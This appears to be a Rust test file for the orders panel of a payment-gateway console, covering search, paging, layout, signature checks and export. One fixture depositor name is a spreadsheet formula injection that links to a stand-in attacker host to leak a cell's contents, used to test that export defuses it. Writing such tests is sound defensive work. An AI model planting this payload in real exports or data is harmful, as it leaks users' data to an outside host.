//! One orders panel alone, driven as a person would: what it asks of the app, with no app
//! and no gateway.

use eframe::egui;
use egui::accesskit::Role;
use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use paydesk::gateway::cny::wire::OrderKind;

use paydesk::domain::export::{Cell, neutralize, order_cells};
use paydesk::domain::search::FetchedAll;
use paydesk::gateway::cny::sign::{SignOptions, Verdict, sign_object};
use paydesk::gateway::cny::wire::{Order, OrderQuery, SignatureCheck, parse_query_reply};
use paydesk::money::Fen;
use paydesk::secret::Secret;
use serde_json::{Map, Value};

use super::row::Signature;
use super::{Action, LoadedPage, OrdersPanel, PersistedFilter, Reread, SortKey};
use crate::console::context::{ConsoleContext, TzChoice};

struct Drawn {
    panel: OrdersPanel,
    details_open: bool,
    actions: Vec<Action>,
}

fn harness() -> Harness<'static, Drawn> {
    let drawn = Drawn {
        panel: OrdersPanel::new(OrderKind::Payout, &PersistedFilter::default()),
        details_open: false,
        actions: Vec::new(),
    };
    let h = Harness::new_ui_state(
        |ui, d: &mut Drawn| {
            let actions = d
                .panel
                .ui(ui, &ConsoleContext::default(), &mut d.details_open);
            d.actions.extend(actions);
        },
        drawn,
    );
    // Chinese names and memos need the console's fonts.
    super::super::fonts::install(&h.ctx);
    h
}

fn click(h: &mut Harness<'_, Drawn>, label: &str) {
    h.get_by_role_and_label(Role::Button, label).click();
    h.step();
    h.step();
}

#[test]
fn the_filter_asks_for_a_search_with_the_typed_query() {
    let mut h = harness();
    let field = h.get_by_role_and_label(Role::TextInput, "Merchant order ID");
    field.focus();
    field.type_text("M-42");
    h.step();
    h.step();
    assert!(h.state().actions.is_empty(), "typing alone asks nothing");
    click(&mut h, "Search");
    assert_eq!(h.state().actions, vec![Action::Search]);
    let query = h.state().panel.query(TzChoice::Gateway).unwrap();
    assert_eq!(query.merchant_id.as_deref(), Some("M-42"));
    assert_eq!(query.offset, 0);
}

#[test]
fn load_all_and_export_are_asked_of_the_app() {
    let mut h = harness();
    click(&mut h, "Load all pages");
    click(&mut h, "Export…");
    assert_eq!(h.state().actions, vec![Action::LoadAll, Action::Export]);
}

fn empty_page(total: u64) -> LoadedPage {
    LoadedPage::from_orders(
        Vec::new(),
        total,
        Reread::new(OrderKind::Payout, None, SignOptions::default()),
    )
}

/// A reply to a search the operator already replaced never shows: it dies with the receiver
/// the panel dropped, where a counter used to be compared.
#[test]
fn a_superseded_search_never_shows() {
    let mut panel = OrdersPanel::new(OrderKind::Deposit, &PersistedFilter::default());
    let (old, rx) = tokio::sync::oneshot::channel();
    panel.begin_request(false, rx, None);
    let (new, rx) = tokio::sync::oneshot::channel();
    panel.begin_request(false, rx, None);
    assert!(old.send(Ok(empty_page(1))).is_err());
    panel.poll();
    assert!(panel.result.is_pending());
    assert!(new.send(Ok(empty_page(2))).is_ok());
    panel.poll();
    assert_eq!(panel.result.shown().map(|p| p.total), Some(2));
}

/// Loading every page reports its progress to the panel that asked, and stops reporting
/// once the reply is in.
#[test]
fn loading_every_page_shows_its_progress_until_the_reply() {
    let mut panel = OrdersPanel::new(OrderKind::Payout, &PersistedFilter::default());
    let (reply, rx) = tokio::sync::oneshot::channel();
    let (progress, progress_rx) = tokio::sync::mpsc::channel(4);
    panel.begin_request(true, rx, Some(progress_rx));
    progress.try_send((3, 10)).unwrap();
    panel.poll();
    assert_eq!(panel.progress, Some((3, 10)));
    assert!(reply.send(Ok(empty_page(10))).is_ok());
    panel.poll();
    assert_eq!(panel.progress, None);
    assert!(
        progress.try_send((4, 10)).is_err(),
        "nobody listens any more"
    );
}

/// With the order details open the filter bar is narrow: it wraps between a label and its
/// control, never inside one, and the date fields stay on their rows.
#[test]
fn a_narrow_filter_bar_keeps_each_label_with_its_control() {
    let drawn = Drawn {
        panel: OrdersPanel::new(OrderKind::Payout, &PersistedFilter::default()),
        details_open: true,
        actions: Vec::new(),
    };
    let mut h = Harness::builder()
        .with_size(egui::vec2(380.0, 500.0))
        .build_ui_state(
            |ui, d: &mut Drawn| {
                let actions = d
                    .panel
                    .ui(ui, &ConsoleContext::default(), &mut d.details_open);
                d.actions.extend(actions);
            },
            drawn,
        );
    h.state_mut().panel.filter.use_range = true;
    for _ in 0..4 {
        h.step();
    }
    let row = |h: &Harness<'_, Drawn>, role: Option<Role>, label: &str| {
        let node = match role {
            Some(role) => h.get_by_role_and_label(role, label),
            None => h.get_by_label(label),
        };
        node.rect().center().y
    };
    let pairs = [
        (
            None,
            "Merchant order ID",
            Some(Role::TextInput),
            "Merchant order ID",
        ),
        (None, "From", Some(Role::TextInput), "Start time"),
        (None, "to", Some(Role::TextInput), "End time"),
        (None, "Page size", Some(Role::ComboBox), "Page size"),
    ];
    for (a_role, a, b_role, b) in pairs {
        let (ya, yb) = (row(&h, a_role, a), row(&h, b_role, b));
        assert!((ya - yb).abs() < 6.0, "{a} at {ya}, {b} at {yb}");
    }
    let from = row(&h, None, "From");
    let to = row(&h, None, "to");
    assert!(to >= from, "the end comes after the start");
}

const KEY: &str = "panel-test-key";

/// Deposits as a gateway's reply carries them: amounts as decimal text and as numbers, a
/// Chinese name, a hostile one, and a `sign` tampered with.
fn deposits() -> Vec<Order> {
    let key = Secret::new(KEY);
    let objects = [
        r#"{"payment_id":"PAY00000001","payment_cl_id":"M-Alpha-1","payment_cl_name":"王小明","amount":"50000.000000","real_amount":4999999,"fee":1,"platform_id":"PF0060","platform_channel_id":"PFC00000142","status":3,"memo":"工资","create_time":1596425140,"update_time":"2020-08-03T11:36:10+08:00"}"#,
        r#"{"payment_id":"PAY00000002","payment_cl_id":"m-beta-2","payment_cl_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")","amount":12345,"real_amount":0,"fee":0,"platform_id":"PF0060","platform_channel_id":"PFC00000143","status":1,"memo":"","create_time":1596425141,"update_time":1596425142}"#,
        r#"{"payment_id":"PAY00000003","payment_cl_id":"M-Gamma-3","payment_cl_name":"李娜","amount":"12.345","real_amount":0,"fee":0,"platform_id":"PF0060","platform_channel_id":"PFC00000142","status":99,"memo":"","create_time":1596425150,"update_time":1596425150}"#,
    ];
    let data: Vec<String> = objects
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let mut o: Map<String, Value> = serde_json::from_str(text).unwrap();
            let mut sign = sign_object(&o, &key, SignOptions::default());
            if i == 2 {
                sign = "0".repeat(32);
            }
            o.insert("sign".into(), Value::from(sign));
            serde_json::to_string(&o).unwrap()
        })
        .collect();
    let body = format!(
        r#"{{"error_code":"0000","data":[{}],"total":{}}}"#,
        data.join(","),
        data.len()
    );
    parse_query_reply(
        OrderKind::Deposit,
        &OrderQuery::default(),
        200,
        body.as_bytes(),
        Some(&key),
        SignOptions::default(),
    )
    .unwrap()
    .orders
}

fn reread() -> Reread {
    Reread::new(
        OrderKind::Deposit,
        Some(Secret::new(KEY)),
        SignOptions::default(),
    )
}

fn loaded_panel(page: LoadedPage) -> OrdersPanel {
    let mut panel = OrdersPanel::new(OrderKind::Deposit, &PersistedFilter::default());
    let (reply, rx) = tokio::sync::oneshot::channel();
    panel.begin_request(false, rx, None);
    assert!(reply.send(Ok(page)).is_ok());
    panel.poll();
    panel
}

/// A row keeps every value the table shows exactly as the order had it, without the order.
#[test]
fn a_compact_row_keeps_every_shown_value_exact() {
    let orders = deposits();
    let page = LoadedPage::from_orders(orders.clone(), 3, reread());
    for (order, row) in orders.iter().zip(page.rows.iter()) {
        assert_eq!(row.system_id(), order.system_id);
        assert_eq!(row.merchant_id(), order.merchant_id);
        assert_eq!(row.depositor(), order.depositor_name.as_deref());
        assert_eq!(*row.channel, order.channel_id);
        assert_eq!(*row.memo, order.memo);
        assert_eq!(row.amount(), order.amount);
        assert_eq!(row.real_amount(), order.real_amount);
        assert_eq!(row.fee(), order.fee);
        assert_eq!(row.created(), order.create_time_secs);
        assert_eq!(row.updated(), order.update_time_secs);
        assert_eq!(row.status(OrderKind::Deposit), order.status);
        assert_eq!(row.signature.word(), order.signature.word());
        assert_eq!(row.signature.is_invalid(), order.signature.is_invalid());
    }
    let first = &page.rows[0];
    assert_eq!(first.amount(), Some(Fen::from_fen(5_000_000)));
    assert_eq!(first.real_amount(), Some(Fen::from_fen(4_999_999)));
    assert_eq!(first.updated(), Some(1_596_425_770));
    assert_eq!(first.depositor(), Some("王小明"));
    assert_eq!(
        first.signature,
        Signature::Checked {
            verdict: Verdict::Valid,
            warned: false
        }
    );
    assert_eq!(
        page.rows[2].amount(),
        None,
        "12.345 yuan is not exact fen: never rounded"
    );
    assert_eq!(page.rows[2].status_code(), Some(99));
    assert_eq!(
        page.rows[2].signature,
        Signature::Checked {
            verdict: Verdict::Mismatch,
            warned: false
        }
    );
    // Channels are shared between rows, not copied.
    assert!(std::sync::Arc::ptr_eq(
        &page.rows[0].channel,
        &page.rows[2].channel
    ));
    // The hostile name is kept as it came, and an export of the loaded rows still defuses it.
    let hostile = &page.rows[1];
    assert!(hostile.depositor().unwrap().starts_with("=HYPERLINK("));
    let cells = order_cells(&page.reread.order(hostile), &["depositor".to_owned()]);
    let [Cell::Text(name)] = &cells[..] else {
        panic!("{cells:?}");
    };
    assert_eq!(Some(name.as_str()), hostile.depositor());
    assert!(neutralize(name).starts_with("'="));
    // Without a key nothing is checked, and the row says so.
    let unchecked = LoadedPage::from_orders(
        vec![Order::from_raw(
            OrderKind::Deposit,
            orders[0].raw(),
            None,
            SignOptions::default(),
        )],
        1,
        reread(),
    );
    assert_eq!(unchecked.rows[0].signature, Signature::Unchecked);
    assert_eq!(unchecked.rows[0].signature.word(), "unchecked");
}

/// The quick filter looks in the fields themselves: IDs in either case, Chinese names as
/// they are, amounts as yuan, status words.
#[test]
fn the_quick_filter_finds_by_id_name_and_amount() {
    let mut panel = loaded_panel(LoadedPage::from_orders(deposits(), 3, reread()));
    let found = |panel: &mut OrdersPanel, text: &str| -> Vec<String> {
        panel.narrow(text, None);
        panel
            .visible_rows()
            .map(|r| r.system_id().to_owned())
            .collect()
    };
    assert_eq!(found(&mut panel, "").len(), 3);
    assert_eq!(found(&mut panel, "pay00000002"), ["PAY00000002"]);
    assert_eq!(found(&mut panel, "M-BETA"), ["PAY00000002"]);
    assert_eq!(found(&mut panel, "  王小明 "), ["PAY00000001"]);
    assert_eq!(found(&mut panel, "李娜"), ["PAY00000003"]);
    assert_eq!(found(&mut panel, "50000.00"), ["PAY00000001"]);
    assert_eq!(found(&mut panel, "123.45"), ["PAY00000002"]);
    assert_eq!(found(&mut panel, "pfc00000143"), ["PAY00000002"]);
    assert_eq!(found(&mut panel, "工资"), ["PAY00000001"]);
    assert_eq!(found(&mut panel, "unknown (99)"), ["PAY00000003"]);
    assert_eq!(found(&mut panel, "INVALID"), ["PAY00000003"]);
    assert!(found(&mut panel, "nothing like it").is_empty());

    // Sorting the rows by a number, an unreadable amount first.
    let sorted = |panel: &mut OrdersPanel, key, ascending| -> Vec<String> {
        panel.narrow("", Some((key, ascending)));
        panel
            .visible_rows()
            .map(|r| r.system_id().to_owned())
            .collect()
    };
    assert_eq!(
        sorted(&mut panel, SortKey::Amount, true),
        ["PAY00000003", "PAY00000002", "PAY00000001"]
    );
    assert_eq!(
        sorted(&mut panel, SortKey::Amount, false),
        ["PAY00000001", "PAY00000002", "PAY00000003"]
    );
    assert_eq!(
        sorted(&mut panel, SortKey::MerchantId, true),
        ["PAY00000001", "PAY00000003", "PAY00000002"]
    );
}

/// The details re-read the order from the row's text and show what the order itself showed:
/// every field, the verdict and the signed text.
#[test]
fn the_details_show_the_order_as_loaded() {
    let orders = deposits();
    let mut panel = loaded_panel(LoadedPage::from_orders(orders.clone(), 3, reread()));
    for (i, order) in orders.iter().enumerate() {
        panel.selected = Some(i);
        let detail = panel.selected_detail().unwrap();
        assert_eq!(detail.text, order.text);
        assert_eq!(detail.raw(), order.raw());
        assert_eq!(detail.signature, order.signature);
        assert_eq!(detail.amount, order.amount);
        assert_eq!(detail.depositor_name, order.depositor_name);
        assert_eq!(
            detail.canonical_masked(SignOptions::default()),
            order.canonical_masked(SignOptions::default())
        );
    }
    let SignatureCheck::Checked(_) = orders[2].signature else {
        panic!("checked");
    };
    let tampered = orders[2].verification(&Secret::new(KEY), SignOptions::default());
    // Nothing Chinese is drawn before the console's fonts are in.
    panel.selected = None;
    let mut h = Harness::new_ui_state(
        |ui, p: &mut OrdersPanel| {
            let mut open = true;
            p.details_ui(
                ui,
                &ConsoleContext::default(),
                SignOptions::default(),
                &mut open,
            );
        },
        panel,
    );
    super::super::fonts::install(&h.ctx);
    h.step();
    h.state_mut().selected = Some(2);
    h.run();
    assert!(h.query_by_label(&tampered.canonical_masked).is_some());
    assert!(
        h.query_by_label_contains("invalid: the signature does not match")
            .is_some()
    );
    assert!(h.query_by_label("李娜").is_some());
}

/// Past the row limit the console keeps what it may, says so in words and offers the export
/// of every matching order.
#[test]
fn past_the_limit_the_console_says_so_and_offers_the_export() {
    let all = |limit| {
        LoadedPage::from_all_orders(
            FetchedAll {
                orders: deposits(),
                total_reported: 3,
                duplicates_dropped: 0,
                query: OrderQuery::default(),
                window_notes: Vec::new(),
                beyond_limit: None,
            },
            reread(),
            limit,
        )
    };
    let within = all(3);
    assert_eq!((within.rows.len(), within.beyond_limit), (3, None));
    let page = all(2);
    assert_eq!((page.rows.len(), page.beyond_limit), (2, Some(3)));

    let mut h = harness();
    {
        let panel = &mut h.state_mut().panel;
        let (reply, rx) = tokio::sync::oneshot::channel();
        panel.begin_request(true, rx, None);
        assert!(reply.send(Ok(page)).is_ok());
        panel.poll();
    }
    h.run();
    assert!(
        h.query_by_label(
            "2 of 3 orders loaded; the rest is beyond what the console keeps in memory: \
             export them instead"
        )
        .is_some()
    );
    click(&mut h, "Export all 3 orders…");
    assert_eq!(h.state().actions, vec![Action::ExportAll]);

    let mut h = harness();
    {
        let panel = &mut h.state_mut().panel;
        let (reply, rx) = tokio::sync::oneshot::channel();
        panel.begin_request(true, rx, None);
        assert!(reply.send(Ok(within)).is_ok());
        panel.poll();
    }
    h.run();
    assert!(
        h.query_by_label_contains("beyond what the console keeps")
            .is_none()
    );
}

/// Stopped at the row limit, the line beside the pager must not claim every order was loaded.
#[test]
fn past_the_limit_the_pager_line_does_not_say_all_loaded() {
    let page = LoadedPage::from_all_orders(
        FetchedAll {
            orders: deposits(),
            total_reported: 3,
            duplicates_dropped: 0,
            query: OrderQuery::default(),
            window_notes: Vec::new(),
            beyond_limit: None,
        },
        reread(),
        2,
    );
    let mut h = harness();
    {
        let panel = &mut h.state_mut().panel;
        let (reply, rx) = tokio::sync::oneshot::channel();
        panel.begin_request(true, rx, None);
        assert!(reply.send(Ok(page)).is_ok());
        panel.poll();
    }
    h.run();
    assert!(h.query_by_label("2 of 3 matching orders loaded").is_some());
    assert!(h.query_by_label_contains("all 2 matching").is_none());
}

/// The grouped text fields of the filter bar keep the width they ask for, frame after frame:
/// a field squeezed to its group's width of the frame before would stay squeezed for good.
#[test]
fn the_filter_fields_keep_their_width() {
    let mut h = Harness::builder()
        .with_size(egui::vec2(1400.0, 500.0))
        .build_ui_state(
            |ui, d: &mut Drawn| {
                let actions = d
                    .panel
                    .ui(ui, &ConsoleContext::default(), &mut d.details_open);
                d.actions.extend(actions);
            },
            Drawn {
                panel: OrdersPanel::new(OrderKind::Payout, &PersistedFilter::default()),
                details_open: false,
                actions: Vec::new(),
            },
        );
    h.state_mut().panel.filter.use_range = true;
    for _ in 0..6 {
        h.step();
    }
    for (label, at_least) in [
        ("Merchant order ID", 160.0),
        ("Start time", 60.0),
        ("End time", 60.0),
    ] {
        let width = h
            .get_by_role_and_label(Role::TextInput, label)
            .rect()
            .width();
        assert!(width >= at_least, "{label} is {width} wide");
    }
}

/// Every page read and counted: the line beside the pager says what the count check found,
/// so a silent line is never taken for a check that was not made.
#[test]
fn loading_every_page_says_what_the_count_check_found() {
    let shown = |total_reported| {
        let page = LoadedPage::from_all_orders(
            FetchedAll {
                orders: deposits(),
                total_reported,
                duplicates_dropped: 0,
                query: OrderQuery::default(),
                window_notes: Vec::new(),
                beyond_limit: None,
            },
            reread(),
            10,
        );
        let mut h = harness();
        {
            let panel = &mut h.state_mut().panel;
            let (reply, rx) = tokio::sync::oneshot::channel();
            panel.begin_request(true, rx, None);
            assert!(reply.send(Ok(page)).is_ok());
            panel.poll();
        }
        h.run();
        h
    };
    let h = shown(3);
    assert!(
        h.query_by_label("all 3 matching orders loaded · the gateway's total 3 matches")
            .is_some()
    );
    let h = shown(4);
    assert!(
        h.query_by_label("3 orders loaded · the gateway's total is 4")
            .is_some()
    );
    assert!(h.query_by_label_contains("all 3").is_none());
}
